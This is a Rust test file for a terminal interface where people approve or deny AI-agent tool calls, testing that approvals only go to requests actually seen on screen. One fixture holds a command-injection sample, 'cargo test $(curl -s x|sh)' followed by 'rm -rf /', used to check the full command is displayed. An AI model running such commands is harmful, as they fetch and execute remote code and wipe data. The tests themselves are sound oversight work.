//! Whole screens, as they are drawn, and keys that nobody would press in that order.

use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};
use mimir_client::Followed;
use mimir_model::agent::ToolStatus;
use mimir_model::event::EventKind;
use mimir_model::look::Look;
use mimir_model::message::DeliveryState;
use mimir_model::wire::approvals::Say;
use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;

use crate::app::{App, CommandLine, Screen};
use crate::effect::{Change, Effect, Heard, Read};
use crate::examples::{event, frame, permission, question, session, turn};
use crate::press::press;
use crate::theme::Theme;
use crate::view::{Kept, draw, is_asked_shown};

fn app(size: (u16, u16)) -> App {
    let commands = ["frame create", "frame list", "runs show"]
        .map(|words| CommandLine { words: words.to_owned(), about: format!("what {words} does") });
    let mut app = App::new(Theme::new(&Look::default(), false), "/srv/blog".to_owned(), commands.to_vec());
    app.size = size;
    app.now_ms = 60_000;
    app
}

pub fn lived_in(size: (u16, u16)) -> App {
    let mut app = app(size);
    let mut broken = frame("worker", "error", "error");
    broken.reason = Some("the image is not there".to_owned());
    app.hear(Heard::Frames(vec![
        frame("blog", "running", "waiting"),
        frame("shop", "running", "busy"),
        broken,
    ]));
    app.hear(Heard::Approvals(vec![permission("blog", "apr_1", "rm -rf build")]));
    let what = EventKind::Tool {
        call: "c".into(),
        tool: "bash".into(),
        status: ToolStatus::Running,
        title: None,
        input: Some(serde_json::json!({"command": "cargo test --workspace"})),
        output: None,
    };
    app.hear(Heard::Followed(Followed::Event(Box::new(event("shop", what)))));
    let words = "Two things:\n\n- **one**\n- `two`\n\nThat is all that there is to say about it, and it is more than one line can hold.";
    let turns = [turn("user", "What is there?", true), turn("assistant", words, true)];
    app.hear(Heard::Talk {
        frame: "blog".into(),
        ends: 0,
        details: Some(Box::new(session("blog", &turns))),
        waiting: Vec::new(),
    });
    shown(&mut app);
    app.now_ms += 5_000;
    app
}

pub fn shown(app: &mut App) -> String {
    drawn_with(app, &mut Kept::default())
}

pub fn drawn_with(app: &mut App, kept: &mut Kept) -> String {
    let mut terminal = Terminal::new(TestBackend::new(app.size.0, app.size.1)).expect("a terminal in memory");
    terminal.draw(|to| draw(app, kept, to)).expect("draws");
    let is_asked = is_asked_shown(app);
    app.drawn(is_asked);
    let buffer = terminal.backend().buffer().clone();
    let lines: Vec<String> = buffer
        .content
        .chunks(usize::from(buffer.area.width))
        .map(|row| row.iter().map(ratatui::buffer::Cell::symbol).collect::<String>().trim_end().to_owned())
        .collect();
    lines.join("\n")
}

pub fn key(app: &mut App, code: KeyCode) -> Vec<Effect> {
    press(app, &Event::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

pub fn keys(app: &mut App, text: &str) -> Vec<Effect> {
    text.chars().flat_map(|c| key(app, KeyCode::Char(c))).collect()
}

#[test]
fn a_screen_of_80_by_24() {
    insta::assert_snapshot!(shown(&mut lived_in((80, 24))));
}

#[test]
fn a_wide_screen() {
    insta::assert_snapshot!(shown(&mut lived_in((160, 30))));
}

#[test]
fn a_narrow_screen() {
    insta::assert_snapshot!(shown(&mut lived_in((44, 30))));
}

#[test]
fn nothing_yet() {
    let mut app = app((80, 14));
    app.hear(Heard::Frames(Vec::new()));
    insta::assert_snapshot!(shown(&mut app));
}

#[test]
fn what_lies_over_it() {
    let mut all = String::new();
    for open in ["?", ":fr", "sHello", "n", "c", "/sh"] {
        let mut app = lived_in((80, 24));
        keys(&mut app, open);
        all.push_str(&format!("--- {open}\n{}\n", shown(&mut app)));
    }
    let mut app = lived_in((80, 24));
    app.hear(Heard::Approvals(vec![question("blog", &[("Which colour?", &["red", "blue"], false)])]));
    shown(&mut app);
    app.now_ms += 5_000;
    keys(&mut app, "y");
    all.push_str(&format!("--- question\n{}\n", shown(&mut app)));
    insta::assert_snapshot!(all);
}

#[test]
fn every_screen_fits_every_size() {
    for width in [1, 10, 39, 40, 59, 60, 80, 250] {
        for height in [1, 9, 10, 24, 60] {
            let mut app = lived_in((width, height));
            for screen in Screen::ALL {
                app.screen = screen;
                for open in ["", "?", ":", "s", "n", "c", "/"] {
                    keys(&mut app, open);
                    shown(&mut app);
                    key(&mut app, KeyCode::Esc);
                }
            }
        }
    }
}

#[test]
fn a_yes_is_for_what_was_seen() {
    let mut app = lived_in((80, 24));
    app.hear(Heard::Approvals(vec![permission("blog", "apr_2", "curl x")]));
    app.now_ms += 1_000;
    assert_eq!(keys(&mut app, "y"), [], "never drawn");
    shown(&mut app);
    assert_eq!(keys(&mut app, "y"), [], "drawn a moment ago");
    app.now_ms += 1_000;
    let effects = keys(&mut app, "y");
    assert!(matches!(&effects[..], [Effect::Change(Change::Answer(id, _))] if id == "apr_2"), "{effects:?}");
    // Of another frame: no yes at all.
    keys(&mut app, "j");
    app.now_ms += 1_000;
    assert_eq!(keys(&mut app, "y"), []);
}

#[test]
fn a_yes_to_what_does_not_fit_the_screen_is_asked_for_twice() {
    let mut app = lived_in((80, 24));
    let long: Vec<String> = (0..80).map(|line| format!("echo {line}")).collect();
    app.hear(Heard::Approvals(vec![permission("blog", "apr_2", &long.join("\n"))]));
    shown(&mut app);
    app.now_ms += 5_000;
    assert_eq!(keys(&mut app, "yy"), [], "a key that is held down asks, and does not answer");
    assert!(shown(&mut app).contains("only a part"), "{}", shown(&mut app));
    app.now_ms += 1_000;
    assert_eq!(keys(&mut app, "y").len(), 1);
}

#[test]
fn a_reason_goes_with_a_no() {
    let mut app = lived_in((80, 24));
    keys(&mut app, "nuse git");
    let effects = key(&mut app, KeyCode::Enter);
    let [Effect::Change(ask)] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!(ask.command(), "mimir approvals deny apr_1 --why 'use git'");
}

#[test]
fn what_was_answered_elsewhere_takes_the_keys_until_it_is_closed() {
    let mut app = lived_in((80, 24));
    let second = permission("blog", "apr_2", "curl x");
    app.hear(Heard::Approvals(vec![permission("blog", "apr_1", "rm -rf build"), second.clone()]));
    keys(&mut app, "nbecause");
    app.hear(Heard::Approvals(vec![second]));
    shown(&mut app);
    app.now_ms += 5_000;
    assert_eq!(keys(&mut app, "yXAqs"), [], "the rest of the reason is no command");
    assert_eq!(key(&mut app, KeyCode::Enter), []);
    assert!(shown(&mut app).contains("answered elsewhere"), "{}", shown(&mut app));
    key(&mut app, KeyCode::Esc);
    assert_eq!(keys(&mut app, "y"), [], "what it covered was not read");
}

#[test]
fn all_that_would_be_allowed_is_shown() {
    let mut app = lived_in((120, 24));
    let mut asked = permission("blog", "apr_1", "cargo test");
    asked.metadata = serde_json::json!({"command": "cargo test $(curl -s x|sh)\nrm -rf /"});
    app.hear(Heard::Approvals(vec![asked.clone()]));
    let screen = shown(&mut app);
    assert!(screen.contains("cargo test $(curl -s x|sh)") && screen.contains("⏎ rm -rf /"), "{screen}");
    asked.tool = Some("edit".to_owned());
    asked.metadata = serde_json::json!({"diff": "-old words\n+new words\n"});
    app.hear(Heard::Approvals(vec![asked]));
    let screen = shown(&mut app);
    assert!(screen.contains("-old words") && screen.contains("+new words"), "{screen}");
    let mut host = permission("blog", "apr_1", "example.org:443");
    host.form = mimir_model::approval::RequestForm::Connection;
    host.always = vec!["example.org".to_owned()];
    app.hear(Heard::Approvals(vec![host]));
    assert!(shown(&mut app).contains("put on the frame's list: example.org"), "{}", shown(&mut app));
}

#[test]
fn a_long_question_leaves_room_for_its_options() {
    let mut app = lived_in((80, 24));
    let text = vec!["words"; 60].join("\n");
    app.hear(Heard::Approvals(vec![question("blog", &[(&text, &["red", "blue"], false)])]));
    shown(&mut app);
    app.now_ms += 5_000;
    keys(&mut app, "y");
    let screen = shown(&mut app);
    assert!(
        screen.contains("red") && screen.contains("something else") && screen.contains("lines more"),
        "{screen}"
    );
}

#[test]
fn a_message_is_kept_until_it_is_sent_and_comes_back_when_it_failed() {
    let mut app = lived_in((80, 24));
    keys(&mut app, "sHello");
    key(&mut app, KeyCode::Esc);
    assert_eq!(app.drafts["blog"], "Hello");
    keys(&mut app, "s there");
    let effects = key(&mut app, KeyCode::Enter);
    let [Effect::Change(change)] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!(change.command(), "mimir send --frame blog --session ssn_1 'Hello there'");
    assert!(app.drafts.is_empty(), "the next message is another one");
    let problem = Box::new(mimir_model::wire::problem::Problem::new(503, "x", "it is away"));
    app.hear(Heard::Failed { change: change.clone(), problem });
    assert_eq!(app.drafts["blog"], "Hello there");
}

#[test]
fn a_frame_made_anew_does_not_inherit_conversations() {
    let mut app = lived_in((80, 24));
    let mut anew = frame("blog", "running", "idle");
    anew.created_at = 50_000;
    app.hear(Heard::Frames(vec![anew]));
    let reads = app.read_all();
    let is_since = |effect: &Effect| matches!(effect, Effect::Read(Read::Talk { since: 50_000, .. }));
    assert!(reads.iter().any(is_since), "{reads:?}");
}

#[test]
fn an_answer_that_grows_leaves_what_is_over_as_it_was_made() {
    let mut app = lived_in((80, 24));
    let tell =
        |app: &mut App, what| app.hear(Heard::Followed(Followed::Event(Box::new(event("blog", what)))));
    tell(&mut app, EventKind::MessageMoved { to: DeliveryState::Sending, reason: None });
    let mut kept = Kept::default();
    drawn_with(&mut app, &mut kept);
    for _ in 0..100 {
        tell(&mut app, EventKind::Text { delta: "word ".into(), part: "p".into() });
        drawn_with(&mut app, &mut kept);
    }
    assert_eq!(kept.talk.made.0, 1);
}

#[test]
fn who_begins_to_look_in_the_middle_of_a_turn_reads_now_and_then() {
    let mut app = lived_in((80, 24));
    let tell =
        |app: &mut App, what| app.hear(Heard::Followed(Followed::Event(Box::new(event("blog", what)))));
    for _ in 0..500 {
        let effects = tell(&mut app, EventKind::Text { delta: "word ".into(), part: "p".into() });
        assert!(matches!(&effects[..], [Effect::ReadSoon(Read::Talk { .. })]), "{effects:?}");
    }
}

#[test]
fn scrolling_ends_where_the_text_does_and_holds_its_place() {
    let mut app = lived_in((80, 24));
    let tell =
        |app: &mut App, what| app.hear(Heard::Followed(Followed::Event(Box::new(event("blog", what)))));
    tell(&mut app, EventKind::MessageMoved { to: DeliveryState::Sending, reason: None });
    let words = "line\n\n".repeat(40);
    tell(&mut app, EventKind::Text { delta: words.clone(), part: "p".into() });
    shown(&mut app);
    for _ in 0..20 {
        key(&mut app, KeyCode::PageUp);
    }
    let top = shown(&mut app);
    assert!(top.contains("about the blog"), "{top}");
    tell(&mut app, EventKind::Text { delta: words, part: "p".into() });
    assert_eq!(shown(&mut app), top, "what comes below moves nothing");
    key(&mut app, KeyCode::PageDown);
    assert_ne!(shown(&mut app), top);
}

#[test]
fn the_choice_does_not_move_under_a_filter_and_a_key_waits_when_it_did() {
    let mut app = lived_in((80, 24));
    keys(&mut app, "/waiting");
    key(&mut app, KeyCode::Enter);
    app.hear(Heard::Frames(vec![frame("blog", "running", "idle"), frame("shop", "running", "waiting")]));
    assert_eq!(app.chosen.as_deref(), Some("blog"));
    app.hear(Heard::Frames(vec![frame("shop", "running", "waiting")]));
    assert_eq!(app.chosen.as_deref(), Some("shop"));
    assert_eq!(keys(&mut app, "X"), [], "nobody chose that one");
    app.now_ms += 1_000;
    assert_eq!(keys(&mut app, "X").len(), 1);
}

#[test]
fn a_log_is_followed_once_and_again_after_its_end() {
    let mut app = lived_in((80, 24));
    let line =
        || mimir_model::wire::frames::FrameLogLine { at: 0, source: "opencode".into(), text: "x".into() };
    assert_eq!(key(&mut app, KeyCode::Tab), [Effect::FollowLog(Some("blog".into()))]);
    app.hear(Heard::Log("blog".into(), line()));
    assert!(!keys(&mut app, "1").iter().any(|effect| matches!(effect, Effect::FollowLog(_))));
    assert_eq!(app.log.len(), 1);
    app.hear(Heard::LogEnded("blog".into(), None));
    let effects = app.hear(Heard::Frames(vec![frame("blog", "running", "idle")]));
    assert!(effects.contains(&Effect::FollowLog(Some("blog".into()))), "{effects:?}");
    app.hear(Heard::LogEnded("blog".into(), None));
    let effects = app.hear(Heard::Frames(vec![frame("blog", "stopped", "stopped")]));
    assert!(!effects.iter().any(|effect| matches!(effect, Effect::FollowLog(_))), "{effects:?}");
}

#[test]
fn today_is_today() {
    let mut app = lived_in((120, 24));
    let day = |name: &str| serde_json::json!({"name": name, "call_count": 1, "unpriced_count": 0, "estimated_count": 0, "cost_microusd": 5_000_000});
    let spending = |days: &[&str]| {
        let days: Vec<_> = days.iter().map(|name| day(name)).collect();
        let all = serde_json::json!({"paused": false, "budgets": [], "days": 7, "by_frame": [], "by_project": [], "by_model": [], "by_day": days});
        Heard::Spending(Box::new(serde_json::from_value(all).expect("spending")))
    };
    app.hear(spending(&["1969-12-31"]));
    assert!(shown(&mut app).contains("$0 today"), "{}", shown(&mut app));
    app.hear(spending(&["1969-12-31", "1970-01-01"]));
    assert!(shown(&mut app).contains("$5.00 today"), "{}", shown(&mut app));
}

#[test]
fn what_is_pasted_is_no_command() {
    let mut app = lived_in((80, 24));
    assert_eq!(press(&mut app, &Event::Paste("qDy\n".into())), []);
    keys(&mut app, "s");
    press(&mut app, &Event::Paste("one\r\ntwo".into()));
    let effects = key(&mut app, KeyCode::Enter);
    assert!(
        matches!(&effects[..], [Effect::Change(Change::Send { text, .. })] if text == "one\ntwo"),
        "{effects:?}"
    );
}

#[test]
fn any_command_can_be_typed() {
    let mut app = lived_in((80, 24));
    keys(&mut app, ":frame cr");
    key(&mut app, KeyCode::Tab);
    keys(&mut app, "'a b'");
    let effects = key(&mut app, KeyCode::Enter);
    let arguments = ["frame", "create", "a b"].map(str::to_owned).to_vec();
    assert_eq!(effects, [Effect::StepAside { arguments, wait: true }]);
}

#[test]
fn the_mouse_chooses() {
    let mut app = lived_in((80, 24));
    let click = |column, row| {
        let kind = MouseEventKind::Down(MouseButton::Left);
        Event::Mouse(MouseEvent { kind, column, row, modifiers: KeyModifiers::NONE })
    };
    press(&mut app, &click(5, 3));
    assert_eq!(app.chosen.as_deref(), Some("shop"));
    press(&mut app, &click(17, 0));
    assert_eq!(app.screen, Screen::Runs);
}

#[test]
fn who_waits_is_found_and_a_frame_that_goes_leaves_its_neighbour() {
    let mut app = lived_in((80, 24));
    keys(&mut app, "G");
    assert_eq!(app.chosen.as_deref(), Some("worker"));
    keys(&mut app, "w");
    assert_eq!(app.chosen.as_deref(), Some("blog"));
    app.hear(Heard::Frames(vec![frame("shop", "running", "busy"), frame("worker", "running", "idle")]));
    assert_eq!(app.chosen.as_deref(), Some("shop"));
}

#[test]
fn a_gateway_that_went_away_is_said_and_all_is_read_when_it_is_back() {
    let mut app = lived_in((80, 24));
    app.hear(Heard::Followed(Followed::Away));
    assert!(shown(&mut app).contains("gateway away, waiting"), "{}", shown(&mut app));
    assert!(app.hear(Heard::Followed(Followed::Back)).len() >= 5);
    assert!(!shown(&mut app).contains("gateway away"), "{}", shown(&mut app));
}

#[test]
fn an_answer_appears_while_it_is_written() {
    let mut app = lived_in((80, 24));
    let tell =
        |app: &mut App, what| app.hear(Heard::Followed(Followed::Event(Box::new(event("blog", what)))));
    tell(&mut app, EventKind::MessageMoved { to: DeliveryState::Sending, reason: None });
    tell(&mut app, EventKind::Text { delta: "half an ans".into(), part: "p".into() });
    assert!(shown(&mut app).contains("half an ans"), "{}", shown(&mut app));
}

/// Mostly keys; and yes, questions, time and draws more often than others, since these make what must not happen.
fn code() -> impl Strategy<Value = u8> {
    prop_oneof![6 => 0u8..48, 3 => 13u8..15, 3 => 48u8..50, 3 => 50u8..52, 1 => 52u8..54, 4 => Just(54u8)]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 60, ..ProptestConfig::default() })]

    /// Whatever is pressed and heard in whatever order: it draws, and says yes only to what was drawn uncovered for a while.
    #[test]
    fn no_keys_break_it(codes in prop::collection::vec(code(), 0..120), width in 1u16..200, height in 1u16..50) {
        let mut app = lived_in((width, height));
        // What stands on the screen and since when, and what a key ever met there for long enough.
        let mut seen: Option<(String, u64)> = None;
        // The world that this begins with was looked at already.
        let mut read: Vec<String> = is_asked_shown(&app).then(|| "apr_1".to_owned()).into_iter().collect();
        for (number, code) in codes.into_iter().enumerate() {
            let event = match code {
                0 => KeyCode::Enter, 1 => KeyCode::Esc, 2 => KeyCode::Tab, 3 => KeyCode::BackTab, 4 => KeyCode::Up,
                5 => KeyCode::Down, 6 => KeyCode::PageUp, 7 => KeyCode::PageDown, 8 => KeyCode::Backspace,
                9 => KeyCode::Home, 10 => KeyCode::End, 11 => KeyCode::Left, 12 => KeyCode::Right,
                other @ 13..48 => KeyCode::Char(b"yAnbsxSXRPcDoe:/?1234wjkgGhlq iCr 'mv"[usize::from(other - 13) % 37].into()),
                48 => { app.now_ms += 500; continue; }
                49 => { app.now_ms += 300; continue; }
                50 => { app.hear(Heard::Approvals(vec![permission("blog", &format!("apr_{number}"), "x")])); continue; }
                51 => { app.hear(Heard::Approvals(vec![permission("shop", &format!("apr_{number}"), "x"), question("blog", &[("Which?", &["a"], true)])])); continue; }
                52 => { app.hear(Heard::Frames(vec![frame("shop", "running", "busy")])); continue; }
                53 => { app.hear(Heard::Followed(Followed::Reset)); continue; }
                _ => {
                    shown(&mut app);
                    let asked = app.asked().filter(|_| is_asked_shown(&app)).map(|asked| asked.id.clone());
                    seen = match (asked, seen) {
                        (Some(id), Some((known, at))) if id == known => Some((id, at)),
                        (Some(id), _) => Some((id, app.now_ms)),
                        (None, _) => None,
                    };
                    continue;
                }
            };
            read.extend(seen.iter().filter(|(_, at)| app.now_ms >= at + 400).map(|(id, _)| id.clone()));
            for effect in &key(&mut app, event) {
                if let Effect::Change(Change::Answer(id, answer)) = effect
                    && matches!(answer.decision, Say::Once | Say::Always)
                {
                    prop_assert!(read.contains(id), "{id} was never on the screen for long enough: {read:?}");
                }
            }
        }
        shown(&mut app);
    }
}
